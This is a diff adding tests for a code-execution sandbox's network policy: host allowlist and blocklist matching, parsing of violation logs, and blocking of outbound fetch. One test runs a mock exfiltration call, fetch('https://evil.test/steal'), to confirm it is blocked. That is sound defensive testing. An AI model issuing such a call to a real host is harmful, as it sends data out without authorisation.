@@ -0,0 +1,109 @@
+/// <reference types="vitest" />
+import {
+  isHostAllowed,
+  networkViolationIssue,
+  parseNetworkViolations,
+  VIOLATION_MARKER,
+} from '../../../src/core/execution-engine/sandbox/network-policy';
+import { VMSandbox } from '../../../src/core/execution-engine/sandbox/vm-sandbox';
+import { SandboxConfig } from '../../../src/core/execution-engine/types';
+
+describe('Network policy', () => {
+  describe('isHostAllowed', () => {
+    it('should allow everything without a policy', () => {
+      expect(isHostAllowed(undefined, 'example.com')).toBe(true);
+    });
+
+    it('should deny everything in none mode', () => {
+      expect(isHostAllowed({ mode: 'none' }, 'example.com')).toBe(false);
+    });
+
+    it('should match exact hosts and subdomain wildcards', () => {
+      const policy = {
+        mode: 'whitelist' as const,
+        allowed: ['api.github.com', '*.example.com'],
+      };
+
+      expect(isHostAllowed(policy, 'API.GitHub.com')).toBe(true);
+      expect(isHostAllowed(policy, 'files.example.com')).toBe(true);
+      expect(isHostAllowed(policy, 'example.com')).toBe(false);
+      expect(isHostAllowed(policy, 'github.com')).toBe(false);
+    });
+
+    it('should only refuse listed hosts in blacklist mode', () => {
+      const policy = { mode: 'blacklist' as const, blocked: ['*.internal'] };
+
+      expect(isHostAllowed(policy, 'db.internal')).toBe(false);
+      expect(isHostAllowed(policy, 'example.com')).toBe(true);
+    });
+  });
+
+  describe('violations', () => {
+    it('should parse proxy marker lines and guard log lines', () => {
+      const text = [
+        'listening',
+        `${VIOLATION_MARKER}{"host":"evil.test","port":443,"protocol":"https"}`,
+        '{"host":"10.0.0.1","port":22,"protocol":"tcp"}',
+        '{"broken',
+      ].join('\n');
+
+      expect(parseNetworkViolations(text)).toEqual([
+        { host: 'evil.test', port: 443, protocol: 'https' },
+        { host: '10.0.0.1', port: 22, protocol: 'tcp' },
+      ]);
+    });
+
+    it('should report violations as security issues', () => {
+      const issue = networkViolationIssue({
+        host: 'evil.test',
+        port: 443,
+        protocol: 'https',
+      });
+
+      expect(issue.type).toBe('network_blocked');
+      expect(issue.severity).toBe('high');
+      expect(issue.description).toContain('evil.test:443');
+    });
+  });
+
+  describe('VMSandbox mediated fetch', () => {
+    const config: SandboxConfig = {
+      type: 'vm',
+      resourceLimits: { cpu: 1, memory: '128M', timeout: 5000 },
+      networkPolicy: { mode: 'whitelist', allowed: ['api.example.com'] },
+    };
+
+    it('should refuse hosts outside the allowlist', async () => {
+      const sandbox = new VMSandbox(config);
+
+      const result = await sandbox.execute(
+        `(async () => {
+          try {
+            await fetch('https://evil.test/steal');
+            return 'sent';
+          } catch (error) {
+            return error.message;
+          }
+        })()`,
+        'javascript'
+      );
+
+      expect(result.success).toBe(true);
+      expect(result.output).toContain('blocked by sandbox network policy');
+      expect(result.securityIssues).toEqual([
+        expect.objectContaining({
+          type: 'network_blocked',
+          description: expect.stringContaining('evil.test:443'),
+        }),
+      ]);
+    });
+
+    it('should not expose fetch without a network policy', async () => {
+      const sandbox = new VMSandbox({ ...config, networkPolicy: undefined });
+
+      const result = await sandbox.execute('typeof fetch', 'javascript');
+
+      expect(result.output).toBe('undefined');
+    });
+  });
+});